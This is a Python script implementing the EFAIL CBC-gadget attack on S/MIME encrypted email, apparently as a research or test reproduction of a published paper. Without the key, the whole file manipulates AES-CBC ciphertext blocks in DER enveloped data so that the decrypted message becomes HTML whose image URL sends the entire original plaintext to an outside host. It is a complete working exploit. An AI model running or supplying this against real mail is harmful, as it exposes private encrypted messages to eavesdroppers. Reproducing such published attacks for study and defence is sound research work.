#!/usr/bin/env python3
"""cbc-gadget.py IN.der KNOWN OUT.der [CERT KEY]

The EFAIL CBC gadget against S/MIME (Poddebniak et al., USENIX Security
2018). IN.der is AES-CBC enveloped-data (openssl cms -encrypt -aes256
-binary -outform DER); KNOWN is its first plaintext block, which an
attacker knows (S/MIME content starts "Content-Type: ..."). Without the
key, only by rewriting ciphertext blocks, OUT.der decrypts to

    Content-Type: (a<G>y)text/html

    <p><G><img alt="xxxxxx<G>" src="http://e/<G>SECRET...<G>">

where SECRET is the whole original plaintext and each <G> a block of
garbage. The first block is set through the IV (P1 = D(C1) ^ IV, so
IV' = IV ^ KNOWN ^ X gives X); every other chosen block X is a pair
(IV ^ KNOWN ^ X, C1): the first decrypts to garbage, the second to X.
The original ciphertext follows the block IV, which decrypts to garbage
and makes C1..Cn decrypt to the original plaintext again. The garbage
after the IV block lands inside an RFC 5322 comment, which must not
hold a parenthesis, backslash or line end: an attacker sends a few
variants; with CERT and KEY (the recipient's, here only to keep the
test deterministic) the script tries variants until one parses."""
import subprocess
import sys

from der import children, tl, tlv


def replace(b, path, new):
    """b with the element reached by the child indexes `path` replaced by
    the encoded element `new`, every enclosing length rewritten"""
    if not path:
        return new
    kids = children(b, 0)
    tag, h, _ = tl(b, 0)
    o, l = kids[path[0]]
    sub = replace(b[o:o + l], path[1:], new)
    value = b''.join(sub if k == path[0] else b[ko:ko + kl] for k, (ko, kl) in enumerate(kids))
    return tlv(tag, value)


def element(b, path):
    o = 0
    for p in path:
        o = children(b, o)[p][0]
    return o


def xor(*blocks):
    out = bytes(16)
    for b in blocks:
        out = bytes(x ^ y for x, y in zip(out, b))
    return out


def gadget(der, known, filler):
    # ContentInfo { OID, [0] { EnvelopedData { version, recipientInfos,
    #   EncryptedContentInfo { type, algorithm { OID, IV }, [0] ciphertext } } } }
    eci = [1, 0, 2]
    iv_at = element(der, eci + [1, 1])
    _, h, n = tl(der, iv_at)
    iv = der[iv_at + h:iv_at + h + n]
    ct_at = element(der, eci + [2])
    tag, h, n = tl(der, ct_at)
    if tag != 0x80 or len(iv) != 16 or n % 16:
        sys.exit('cbc-gadget: want DER AES-CBC enveloped-data with primitive encryptedContent')
    ct = der[ct_at + h:ct_at + h + n]
    c = [ct[i:i + 16] for i in range(0, n, 16)]

    def chosen(x):  # (A, C1): garbage, then x
        assert len(x) == 16
        return xor(iv, known, x) + c[0]

    x1 = b'Content-Type: (a'
    body = (c[0] +
            chosen(filler + b')text/html\n\n<p>') +
            chosen(b'<img alt="xxxxxx') +
            chosen(b'" src="http://e/') +
            iv + ct +
            chosen(b'">' + bytes([14]) * 14))
    out = replace(der, eci + [1, 1], tlv(0x04, xor(iv, known, x1)))
    return replace(out, eci + [2], tlv(0x80, body))


def parses(der, cert, key):
    p = subprocess.run(['openssl', 'cms', '-decrypt', '-inform', 'DER', '-binary',
                        '-recip', cert, '-inkey', key], input=der, capture_output=True)
    line = p.stdout.split(b'\n', 1)[0]
    return p.returncode == 0 and line.startswith(b'Content-Type: (a') and line.endswith(b')text/html') \
        and not any(ch in line[16:-10] for ch in b'()\\\r\x00')


def main():
    der = open(sys.argv[1], 'rb').read()
    known = sys.argv[2].encode()[:16]
    if len(known) != 16:
        sys.exit('cbc-gadget: KNOWN must be one 16-byte block')
    check = sys.argv[4:6]
    for f in b'yzYZ0123456789abcdefghijklmnopqrstuvwxABCDEFGHIJKLMNOPQRSTUVWX':
        out = gadget(der, known, bytes([f]))
        if not check or parses(out, *check):
            open(sys.argv[3], 'wb').write(out)
            return
    sys.exit('cbc-gadget: no variant parsed')


main()
